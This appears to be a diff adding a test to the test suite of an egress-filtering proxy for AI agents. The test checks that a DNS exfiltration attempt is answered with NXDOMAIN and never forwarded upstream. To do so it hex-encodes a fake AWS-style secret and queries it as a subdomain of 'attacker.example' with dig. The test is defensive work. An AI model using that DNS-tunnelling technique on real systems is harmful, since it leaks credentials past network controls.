@@ -134,6 +134,27 @@ describe('agent-egress CLI', () => {
     expect(q.stdout.trim().split('\n')).toHaveLength(20);
   });
 
+  it('serve --dns-listen: an allowed name resolves, an exfiltration-style name gets NXDOMAIN and never reaches upstream', async () => {
+    dns.set('api.allowed.test', { A: ['93.184.216.34'] });
+    const s = await serve([
+      '--listen', '127.0.0.1:0', '--allow', '*.allowed.test', '--dns-listen', '127.0.0.1:0', '--dns-server', `127.0.0.1:${dns.port}`,
+      '--no-store', '--no-decision-log',
+    ]);
+    try {
+      const dnsPort = /"dns":\["127\.0\.0\.1:(\d+)"\]/.exec(s.stderr())![1];
+      const ok = await run('dig', ['+short', '+time=2', '+tries=1', '@127.0.0.1', '-p', dnsPort, 'api.allowed.test'], { encoding: 'utf8' });
+      expect(ok.stdout.trim()).toBe('93.184.216.34');
+      const secret = Buffer.from('AKIA-secret-to-leak').toString('hex');
+      const before = dns.queries.length;
+      const bad = await run('dig', ['+time=2', '+tries=1', '@127.0.0.1', '-p', dnsPort, `${secret}.attacker.example`], { encoding: 'utf8' });
+      expect(bad.stdout).toMatch(/status: NXDOMAIN/);
+      expect(dns.queries.slice(before).some((q) => q.name.includes(secret))).toBe(false);
+    } finally {
+      s.child.kill('SIGTERM');
+      await s.exited;
+    }
+  });
+
   it('register.cjs makes Node 20 fetch go through the proxy named by HTTP_PROXY', async () => {
     const s = await serve([
       '--listen', '127.0.0.1:0', '--allow', `allowed.test:${origin.port}`, '--allow-address', '127.0.0.1/32',
